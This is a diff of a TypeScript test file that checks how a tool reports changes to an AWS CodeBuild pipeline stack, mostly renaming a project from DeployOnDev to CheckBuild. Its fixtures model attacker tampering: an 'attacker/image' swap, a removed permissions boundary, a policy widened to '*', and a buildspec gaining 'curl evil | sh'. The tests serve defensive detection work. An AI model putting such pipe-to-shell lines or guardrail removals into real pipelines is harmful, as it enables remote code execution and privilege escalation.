@@ -1,7 +1,7 @@
 import fc from "fast-check";
-import { definitionDigest } from "../../../tasks/barrier/definition";
+import { definitionDigest } from "../../../stacks/pipeline-definition";
 import { definitionChange, definitionChanges } from "../../../tasks/barrier/definition-change";
-import { entriesOf, valueAt, type Json, type JsonObject } from "../../../tasks/barrier/stack-json";
+import { entriesOf, valueAt, type Json, type JsonObject } from "../../../stacks/stack-json";
 import { changed, clone, pipelineJson } from "./synthesized-stacks";
 
 const stack = pipelineJson();
@@ -135,19 +135,17 @@ describe("definitionChanges", () => {
   it("names projects, roles and alarms as AWS does, with the argument", () => {
     const project = ["resource", "aws_codebuild_project", 0] as const;
     expect(changes(changed(stack, [...project, "environment", "image"], "attacker/image"))).toEqual([
-      'project hw-DeployOnDev: environment.image "aws/codebuild/amazonlinux-x86_64-standard:5.0" → "attacker/image"',
+      'project hw-CheckBuild: environment.image "aws/codebuild/amazonlinux-x86_64-standard:5.0" → "attacker/image"',
     ]);
     expect(
       changes(changed(stack, [...project, "environment", "environment_variable", 0, "value"], "0")),
-    ).toEqual([
-      'project hw-DeployOnDev: environment.environment_variable.CHECKPOINT_DISABLE.value "1" → "0"',
-    ]);
+    ).toEqual(['project hw-CheckBuild: environment.environment_variable.CHECKPOINT_DISABLE.value "1" → "0"']);
     expect(changes(changed(stack, ["resource", "aws_cloudwatch_metric_alarm", 0], undefined))).toEqual([
-      "alarm hw-DeployOnDev-failed is removed",
+      "alarm hw-CheckBuild-failed is removed",
     ]);
     expect(
       changes(changed(stack, ["resource", "aws_iam_role", 0, "permissions_boundary"], undefined))[0],
-    ).toMatch(/^role hw-pipeline-DeployOnDev: permissions_boundary "arn.*→ \(none\)$/);
+    ).toMatch(/^role hw-pipeline-CheckBuild: permissions_boundary "arn.*→ \(none\)$/);
   });
 
   it("compares policies statement by statement", () => {
@@ -158,7 +156,7 @@ describe("definitionChanges", () => {
       changes(changed(stack, ["resource", "aws_iam_role_policy", name, "policy"], JSON.stringify(document))),
     ).toEqual([
       expect.stringMatching(
-        /^permissions of DeployOnDev-role_\w+: policy\.Statement\.0\.Resource "arn:<partition>:logs:<region>:<account>:.*" → "\*"$/,
+        /^permissions of CheckBuild-role_\w+: policy\.Statement\.0\.Resource "arn:<partition>:logs:<region>:<account>:.*" → "\*"$/,
       ),
     ]);
   });
@@ -172,11 +170,11 @@ describe("definitionChanges", () => {
       { value: 1 },
     );
     expect(definitionChanges(before, after)).toEqual([
-      "project hw-DeployOnDev: source.buildspec has 2 lines more and 1 less",
+      "project hw-CheckBuild: source.buildspec has 2 lines more and 1 less",
       'the stack: output.new (none) → {"value":1}',
-      "project hw-DeployOnDev: source.buildspec -   one",
-      "project hw-DeployOnDev: source.buildspec +   curl evil | sh",
-      "project hw-DeployOnDev: source.buildspec +   two",
+      "project hw-CheckBuild: source.buildspec -   one",
+      "project hw-CheckBuild: source.buildspec +   curl evil | sh",
+      "project hw-CheckBuild: source.buildspec +   two",
     ]);
   });
 
